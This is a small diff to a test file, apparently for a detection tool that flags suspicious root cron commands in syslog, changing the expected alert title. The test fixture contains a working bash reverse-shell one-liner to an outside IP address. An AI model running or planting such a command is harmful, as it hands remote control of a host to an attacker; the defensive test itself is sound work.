@@ -119,7 +119,7 @@ describe('what cron ran', () => {
       `Nov 20 02:${minute}:01 web CRON[7]: (root) CMD (bash -i >& /dev/tcp/192.0.2.9/443 0>&1)`;
     const { bad } = await resultsOf({ 'fs/var/log/syslog': log(run('10'), run('20'), run('30')) });
     expect(bad.map(({ rule, title }) => [rule, title])).toEqual([
-      ['log.cron-command', 'Cron ran as root, 3 times: A command opens a shell to another host'],
+      ['log.cron-command', 'Cron ran as root, 3 times: Shell tied to a network device of bash'],
     ]);
   });
 });
